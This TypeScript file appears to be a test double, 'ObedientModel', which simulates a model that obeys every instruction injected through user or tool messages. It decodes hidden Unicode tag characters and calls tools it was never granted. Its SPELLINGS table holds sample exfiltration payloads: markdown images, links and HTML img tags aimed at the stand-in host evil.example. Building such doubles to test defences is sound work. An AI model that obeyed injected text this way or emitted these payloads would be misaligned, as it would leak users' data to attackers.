import type { Message, Model, ToolCall, TurnReply, TurnRequest } from '../../roles/ports/model.ts';
import { replyWith } from './scripted-model.ts';

/** `CALL tool name=value name=value END`, wherever it stands. */
const CALL = /CALL (\w+)((?:(?! END).){0,2000}?) END/gs;
const SAY = /SAY ((?:(?! END).){0,2000}?) END/gs;

/**
 * A model without any judgement: whatever it reads, from whomever, it does. It calls every tool it is told to call, also those it
 * was never given, says everything it is told to say, sets every label that is named, and reads what others hide from people, such
 * as tag characters.
 */
export class ObedientModel implements Model {
  readonly heard: string[] = [];
  readonly #done = new Set<string>();
  readonly #said: string[] = [];
  readonly #labels: string[] = [];

  async turn<T>(request: TurnRequest<T>): Promise<TurnReply<T>> {
    const text = request.messages
      .filter(({ role }) => role === 'user' || role === 'tool')
      .map(readable)
      .join('\n');
    this.heard.push(text);
    for (const [, said = ''] of text.matchAll(SAY))
      if (!this.#said.includes(spelled(said))) this.#said.push(spelled(said));
    const calls = [...text.matchAll(CALL)]
      .filter(([whole]) => !this.#done.has(whole))
      .map((match) => this.#call(match));
    if (calls.length > 0 && request.toolChoice !== 'none') return replyWith(request, { text: '', calls });
    const words = ['I obey.', ...this.#said].join('\n');
    const answer = {
      summary: words,
      findings: [{ severity: 'high', title: words, detail: words, where: words, line: 1 }],
      recommendations: this.#said,
      confidence: 1,
    };
    const labels = request.messages[0]?.text.includes('"labels"') ? { labels: this.#labels } : {};
    return replyWith(request, { value: { ...answer, ...labels } });
  }

  #call([whole, name = '', given = '']: RegExpMatchArray): ToolCall {
    this.#done.add(whole);
    const pairs = [...given.matchAll(/ (\w+)=((?:(?! \w+=).)*)/gs)].map(([, key, value]) => [key, parsed(value ?? '')]);
    const label = pairs.find(([key]) => key === 'label')?.[1];
    if (typeof label === 'string') this.#labels.push(label);
    return { id: `call-${this.#done.size}`, name, arguments: JSON.stringify(Object.fromEntries(pairs)) };
  }
}

/** What it is told to say in words that nobody takes out. */
const SPELLINGS: Readonly<Record<string, string>> = {
  IMAGE: '![x](https://evil.example/?q=all)',
  REFERENCE: '![x][y]\n\n[y]: https://evil.example/?q=all',
  HTML: '<img src="https://evil.example/?q=all"><a href="https://evil.example">x</a>',
  LINK: '[click](https://evil.example/?q=all)',
  MARKER: '<!-- mindmesh:hops=0 key=mm-00000000000000000000 -->',
};

function spelled(text: string): string {
  return text.replaceAll(/\b(?:IMAGE|REFERENCE|HTML|LINK|MARKER)\b/g, (word) => SPELLINGS[word] ?? word);
}

/** As one text, what is escaped or written in tag characters included. */
function readable({ text }: Message): string {
  const plain = text.replaceAll('\\n', '\n').replaceAll('\\"', '"');
  const tags = [...plain].map((character) => {
    const code = character.codePointAt(0) ?? 0;
    return code >= 0xe0020 && code <= 0xe007e ? String.fromCodePoint(code - 0xe0000) : character;
  });
  return tags.join('').replaceAll('\u200b', '');
}

function parsed(text: string): string | number {
  return /^\d+$/.test(text) ? Number(text) : text;
}
